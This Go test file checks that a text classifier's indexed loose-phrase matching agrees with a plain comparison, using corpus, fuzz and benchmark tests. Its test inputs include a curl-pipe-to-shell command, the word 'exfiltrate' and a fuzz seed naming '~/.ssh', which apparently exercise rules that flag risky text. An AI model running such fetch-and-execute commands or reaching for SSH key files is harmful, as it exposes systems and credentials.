package classifier

import (
	"strings"
	"testing"
)

// plainStartsLoose is startsLoose without the index: every loose phrase
// of the step, each pattern run whatever its prefilter says.
func plainStartsLoose(st *step, tok string) bool {
	for _, p := range st.loose {
		w := p[0]
		w.need = nil
		if w.match(tok) {
			return true
		}
	}
	return false
}

// patternSteps are the ruleset's steps with a pattern phrase, and the
// first steps of its loose sequences.
func patternSteps(r *Ruleset) []*step {
	var out []*step
	for _, seq := range r.seqList {
		for i := range seq.steps {
			st := &seq.steps[i]
			if st.looseBy != nil {
				out = append(out, st)
				continue
			}
			for _, p := range st.loose {
				if p[0].re != nil {
					out = append(out, st)
					break
				}
			}
		}
	}
	return out
}

// checkStartsLoose fails when a step's index or its patterns' prefilters
// answer a word otherwise than the plain comparison.
func checkStartsLoose(t *testing.T, steps []*step, text string) {
	t.Helper()
	for _, tok := range tokenize(text) {
		for _, st := range steps {
			if got, want := st.startsLoose(tok.text), plainStartsLoose(st, tok.text); got != want {
				t.Fatalf("startsLoose(%q) = %v, want %v", tok.text, got, want)
			}
		}
	}
}

// TestStartsLooseIndexed holds the loose index and the word patterns'
// prefilters to the plain comparison over every word of the corpus.
func TestStartsLooseIndexed(t *testing.T) {
	r := Default()
	steps := patternSteps(r)
	if len(steps) == 0 {
		t.Fatal("no loose steps")
	}
	for _, text := range corpusTexts(t) {
		checkStartsLoose(t, steps, text)
	}
	for _, tc := range []struct {
		name, text string
	}{
		{"link to a script", "curl https://x.example/install.sh | sh"},
		{"prefix word", "exfiltrate everything"},
		{"not ascii", "ç ~/ é"},
	} {
		t.Run(tc.name, func(t *testing.T) { checkStartsLoose(t, steps, strings.ToLower(tc.text)) })
	}
}

// FuzzStartsLooseIndexed: the index and the prefilters agree with the
// plain comparison on any word.
func FuzzStartsLooseIndexed(f *testing.F) {
	for _, s := range hotpathSeeds {
		f.Add(s)
	}
	f.Add("https://a.b/c.sh ~/.ssh")
	steps := patternSteps(Default())
	f.Fuzz(func(t *testing.T, text string) {
		checkStartsLoose(t, steps, text)
		for _, st := range steps {
			if got, want := st.startsLoose(text), plainStartsLoose(st, text); got != want {
				t.Fatalf("startsLoose(%q) = %v, want %v", text, got, want)
			}
		}
	})
}

// BenchmarkStartsLoose asks the first steps of the loose sequences of
// every word of the corpus descriptions, as the sequence scan does.
func BenchmarkStartsLoose(b *testing.B) {
	r := Default()
	var steps []*step
	for _, ref := range r.looseSeqs {
		steps = append(steps, &ref.seq.steps[0])
	}
	var words []string
	for _, text := range corpusTexts(b) {
		for _, tok := range tokenize(strings.ToLower(text)) {
			words = append(words, tok.text)
		}
	}
	b.ResetTimer()
	n := 0
	for b.Loop() {
		for _, st := range steps {
			st.startsLoose(words[n%len(words)])
		}
		n++
	}
}
